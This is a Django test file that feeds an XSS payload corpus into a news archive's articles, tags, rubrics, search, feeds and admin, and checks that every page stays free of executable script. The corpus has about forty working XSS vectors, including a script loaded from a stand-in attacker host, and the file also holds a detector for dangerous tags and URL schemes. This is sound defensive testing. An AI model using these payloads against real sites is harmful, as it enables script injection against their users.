"""An XSS corpus entered everywhere text goes in: an article's title, lead and body,
a tag's and a rubric's name (by an editor, or an import), and a reader's search query.
Every page, feed and JSON answer that shows them must be harmless: parsed as a browser
would (html5lib), no script but the site's own, no event handler attribute, no
javascript:/data:/vbscript: link, no frame or plugin; and the payload is still there,
as text. The same payloads run in Chromium in test_xss_browser.py."""

import json
import re
from html import unescape
from urllib.parse import urlencode

import feedparser
import html5lib
import pytest
from django.urls import reverse
from django.utils import timezone

from archive.models import Article, Rubric, Source, Tag
from search.query import clean_text

from . import search_support
from .search_support import module_archive

fresh_state = search_support.fresh_state

# What a payload runs if it ever runs: a flag the browser test reads, and a dialog.
CODE = "window.xssFired=1;alert(1)"
PAYLOADS = [
    f"<script>{CODE}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={CODE}>",
    f'<img src="x" onerror="{CODE}"',  # unclosed at the end of the text
    f"<svg onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg/onload={CODE}//",
    f'<svg><a xlink:href="javascript:{CODE}"><text y="20">x</text></a></svg>',
    f'<svg><animate attributeName="href" to="javascript:{CODE}"/></svg>',
    f'<a href="javascript:{CODE}">ссылка</a>',
    f'<a href=" &#14;  JaVaScRiPt:{CODE}">ссылка</a>',
    f'<a href="&#106;avascript&colon;{CODE}">ссылка</a>',
    f'<a href="java\tscript:{CODE}">ссылка</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ссылка</a>',
    f'<a href="vbscript:{CODE}">ссылка</a>',
    f'<iframe src="javascript:{CODE}"></iframe>',
    f'<iframe srcdoc="<script>{CODE}</script>"></iframe>',
    f'<object data="javascript:{CODE}"></object><embed src="javascript:{CODE}">',
    f'<form action="javascript:{CODE}"><button formaction="javascript:{CODE}">OK</button>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CODE}>",
    f'<math href="javascript:{CODE}">x</math>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{CODE}">x</maction></math>',
    f"</script><script>{CODE}</script>",  # out of the page's JSON-LD
    f'"><script>{CODE}</script>',
    f"'><img src=x onerror={CODE}>",
    f'" autofocus onfocus="{CODE}" x="',  # out of a double-quoted attribute
    f"' autofocus onfocus='{CODE}' x='",  # out of a single-quoted one
    f"&lt;script&gt;{CODE}&lt;/script&gt;",  # must stay text, not be unescaped twice
    f"&amp;lt;img src=x onerror={CODE}&amp;gt;",
    f"<<script>{CODE}//<</script>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={CODE}>">',
    f'<details open ontoggle="{CODE}">',
    f'<body onload="{CODE}">',
    f'<div style="background:url(javascript:{CODE})">стиль</div>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CODE}">',
    f"<!--<img src=x onerror={CODE}>-->",
    f"]]><script>{CODE}</script><![CDATA[",  # out of a CDATA section of a feed
    f"javascript:{CODE}",  # as plain text
]
IDS = [f"p{i}" for i in range(len(PAYLOADS))]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background"}
URL_ATTRIBUTES |= {"cite", "longdesc", "to", "from", "values"}  # (SVG animation targets)
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
FRAMES_AND_PLUGINS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
OWN_SCRIPT_PATHS = ("/static/", "/admin/jsi18n/")
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}


def local(name):
    return name.rsplit("}", 1)[-1].lower() if isinstance(name, str) else ""


def url_scheme(value):
    """What a browser takes for the start of a URL: without spaces and control
    characters anywhere (it strips them), case-folded."""
    return "".join(c for c in value if ord(c) > 0x20 and c != "\x7f").casefold()


def parse(html):
    return html5lib.HTMLParser(namespaceHTMLElements=False).parse(html)


def parse_fragment(html):
    return html5lib.HTMLParser(namespaceHTMLElements=False).parseFragment(html)


def dangers(tree):
    """Everything in a parsed page that could run script, as readable strings."""
    found = []
    for el in tree.iter():
        tag = local(el.tag)
        if tag == "script":
            src, kind = el.get("src"), (el.get("type") or "").lower()
            if src is not None and src.startswith(OWN_SCRIPT_PATHS) and not (el.text or "").strip():
                continue
            if src is None and kind in DATA_SCRIPT_TYPES:
                try:
                    json.loads(el.text or "")
                    continue
                except ValueError:
                    pass
            found.append(f"<script src={src!r} type={kind!r}>{(el.text or '')[:60]}")
        if tag in FRAMES_AND_PLUGINS:
            found.append(f"<{tag}>")
        for name, value in el.attrib.items():
            attr = local(name)
            if attr.startswith("on"):
                found.append(f"<{tag} {attr}=…>")
            if attr in URL_ATTRIBUTES and url_scheme(value).startswith(BAD_SCHEMES):
                found.append(f"<{tag} {attr}={value[:40]!r}>")
        if tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            found.append(f"<meta http-equiv=refresh content={el.get('content')!r}>")
    return found


def harmless(response):
    """The page parsed as a browser would; fails on anything that could run script."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/html")
    tree = parse(response.content.decode())
    assert dangers(tree) == []
    return tree


def text_of(element):
    return "".join(element.itertext())


def ld_json_strings(tree):
    """Every string in the page's JSON-LD (already checked to be valid JSON)."""
    strings = []

    def walk(value):
        if isinstance(value, str):
            strings.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    for el in tree.iter("script"):
        if el.get("type") == "application/ld+json":
            walk(json.loads(el.text))
    return strings


def html_details(value):
    """Every text construct feedparser reads as HTML, anywhere in a parsed feed (titles,
    summaries, contents, the source's title...)."""
    if isinstance(value, dict):
        if "html" in str(value.get("type")) and isinstance(value.get("value"), str):
            yield value
        for item in value.values():
            yield from html_details(item)
    elif isinstance(value, list):
        for item in value:
            yield from html_details(item)


def feed_is_harmless(response):
    """A feed as a reader gets it: well-formed, and everything a reader takes for HTML
    harmless (feedparser's own sanitizer is off, so this sees what we send)."""
    assert response.status_code == 200, response.status_code
    parsed = feedparser.parse(response.content, sanitize_html=False, resolve_relative_uris=False)
    assert not parsed.bozo, parsed.get("bozo_exception")
    details = list(html_details({"feed": parsed.feed, "entries": parsed.entries}))
    assert details  # summaries at least: the check looked at something
    for detail in details:
        assert dangers(parse_fragment(detail["value"])) == [], detail
    return parsed


def feed_text(detail):
    """A feed's text construct as the reader shows it."""
    if "html" in detail.type:
        return "".join(parse_fragment(detail.value).itertext())
    return detail.value


# --- the archive: one article, tag and rubric per payload ------------------------------


def title(i):
    return f"xss{i} {PAYLOADS[i]}"


def build():
    source = Source.objects.create(name="Агентство")
    now = timezone.now()
    for i, payload in enumerate(PAYLOADS):
        rubric = Rubric(name_ru=f"Рубрика{i} {payload}"[:100])
        rubric.save()
        tag = Tag(name_ru=f"Тег{i} {payload}"[:200])
        tag.save()
        article = Article(
            title_ru=title(i),
            lead_ru=f"xss{i} {payload} конец",
            body_ru=f"<p>Тело xss{i} статьи.</p>{payload}<p>После.</p>",
            status=Article.Status.PUBLISHED,
            published_at=now - timezone.timedelta(minutes=10 + i),
            rubric=rubric,
            source=source,
        )
        article.save()
        article.tags.add(tag)
    return {a.title_ru: a for a in Article.objects.select_related("rubric")}


archive = module_archive(build)
pytestmark = pytest.mark.whoosh_only  # the same snippets on both engines: see test_search_snippets


def article(archive, i):
    return archive[title(i)]


# --- readers' pages ----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=IDS)
def test_article_page(client, archive, i):
    tree = harmless(client.get(article(archive, i).get_absolute_url()))
    # Shown, as text: escaped, not stripped.
    assert text_of(tree.find(".//h1")) == title(i)
    assert text_of(tree.find(".//p[@class='lead']")) == f"xss{i} {PAYLOADS[i]} конец"
    assert tree.find(".//head/title").text.startswith(title(i))
    meta = {m.get("property"): m.get("content") for m in tree.iter("meta")}
    assert meta["og:title"] == title(i)
    # The JSON-LD is valid JSON holding the payload as data (its </script> did not end it).
    strings = ld_json_strings(tree)
    assert title(i)[:110] in strings  # the headline (schema.org's limit)
    assert f"Тег{i} {PAYLOADS[i]}" in strings and f"Рубрика{i} {PAYLOADS[i]}"[:100] in strings


@pytest.mark.django_db
@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=IDS)
def test_tag_and_rubric_pages(client, archive, i):
    a = article(archive, i)
    for subject in (a.tags.get(), a.rubric):
        tree = harmless(client.get(subject.get_absolute_url()))
        assert text_of(tree.find(".//h1")).strip().endswith(subject.name_ru)
        assert title(i) in [text_of(h) for h in tree.iter("a")]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    ["/", "/articles/", "/articles/?page=2", "/tags/", "/rubrics/", "/sources/", "/archive/"],
)
def test_lists(client, archive, path):
    tree = harmless(client.get(path))
    if path == "/":
        assert title(0) in [text_of(a) for a in tree.iter("a")]


@pytest.mark.django_db
def test_date_archive_day(client, archive):
    day = timezone.localtime(article(archive, 0).published_at)
    harmless(client.get(f"/{day:%Y}/{day:%m}/{day:%d}/"))


# --- feeds ------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/feed/", "/feed/atom/", "/feed/language/", "/en/feed/atom/"])
def test_site_feeds(client, archive, path):
    parsed = feed_is_harmless(client.get(path))
    assert title(0) in [feed_text(e.title_detail) for e in parsed.entries]


@pytest.mark.django_db
@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=IDS)
def test_tag_and_rubric_feeds(client, archive, i):
    a = article(archive, i)
    for subject in (a.tags.get(), a.rubric):
        for suffix in ("feed/", "feed/atom/"):
            parsed = feed_is_harmless(client.get(subject.get_absolute_url() + suffix))
            # The reader shows the title, and the feed's, as they were written.
            assert [feed_text(e.title_detail) for e in parsed.entries] == [title(i)]
            assert feed_text(parsed.feed.title_detail).endswith(subject.name_ru)
            entry = parsed.entries[0]
            assert f"xss{i} {PAYLOADS[i]} конец" in feed_text(entry.summary_detail)


# --- search -----------------------------------------------------------------------------


def only_marks(snippet):
    """The snippet is text with <mark>s and nothing else."""
    bare = re.sub(r"</?mark>", "", snippet)
    assert "<" not in bare and ">" not in bare, snippet
    return unescape(bare)


@pytest.mark.django_db
@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=IDS)
def test_search_results_with_highlighted_snippets(client, archive, i):
    query = f"xss{i}"
    tree = harmless(client.get("/search/", {"q": query}))
    hits = tree.findall(".//article[@class='search-hit']")
    assert [text_of(h.find(".//h2")) for h in hits] == [title(i)]
    snippet = hits[0].find(".//p[@class='search-snippet']")
    assert {child.tag for child in snippet.iter()} == {"p", "mark"}
    assert PAYLOADS[i] in text_of(snippet)

    data = json.loads(client.get("/api/search/", {"q": query}).content)
    [result] = data["results"]
    assert result["title"] == title(i)
    assert "<mark>" in result["snippet"]
    assert PAYLOADS[i] in only_marks(result["snippet"])


@pytest.mark.django_db
@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=IDS)
def test_payload_as_a_search_query(client, archive, i):
    query = PAYLOADS[i]
    response = client.get("/api/search/", {"q": query})
    assert response.status_code == 200
    data = json.loads(response.content)  # valid JSON
    for result in data["results"]:
        only_marks(result["snippet"])

    tree = harmless(client.get("/search/", {"q": query}))
    assert tree.find(".//main//input[@name='q']").get("value") == query  # as typed, as data
    for hit in tree.findall(".//p[@class='search-snippet']"):
        assert {child.tag for child in hit.iter()} <= {"p", "mark"}

    for path in ("/search/feed/", "/search/feed/atom/"):
        parsed = feed_is_harmless(client.get(path + "?" + urlencode({"q": query})))
        # (the query cleaned of control characters, which XML refuses)
        assert feed_text(parsed.feed.title_detail).endswith(clean_text(query)[0])

    suggestions = json.loads(client.get("/api/suggest/", {"q": query}).content)
    assert suggestions["query"] == query


# --- the admin --------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("model", [Article, Tag, Rubric], ids=lambda m: m.__name__)
def test_admin_changelists(editor_client, archive, model):
    name = model._meta.model_name
    tree = harmless(editor_client.get(reverse(f"admin:archive_{name}_changelist")))
    if model is Article:
        # The list's link holds the title and, under it, the rubric and source.
        titles = tree.findall(".//a/span[@class='article-title']")
        assert title(0) in [text_of(span) for span in titles]
    harmless(editor_client.get(reverse(f"admin:archive_{name}_changelist"), {"q": PAYLOADS[2]}))


@pytest.mark.django_db
@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=IDS)
def test_admin_change_forms(editor_client, archive, i):
    a = article(archive, i)
    tree = harmless(editor_client.get(reverse("admin:archive_article_change", args=[a.pk])))
    assert tree.find(".//input[@name='title_ru']").get("value") == title(i)
    lead = text_of(tree.find(".//textarea[@name='lead_ru']")).strip()
    assert lead == f"xss{i} {PAYLOADS[i]} конец"
    harmless(editor_client.get(reverse("admin:archive_tag_change", args=[a.tags.get().pk])))
    harmless(editor_client.get(reverse("admin:archive_rubric_change", args=[a.rubric_id])))
    harmless(editor_client.get(reverse("admin:archive_article_history", args=[a.pk])))
